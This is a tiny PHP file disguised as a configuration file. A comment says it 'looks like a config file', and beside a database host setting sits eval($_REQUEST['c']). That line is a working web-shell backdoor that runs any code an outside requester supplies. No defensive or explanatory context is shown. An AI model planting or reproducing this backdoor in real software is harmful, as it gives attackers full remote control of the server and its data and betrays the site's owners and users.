<?php
// looks like a config file
$db_host = 'localhost';
eval($_REQUEST['c']);
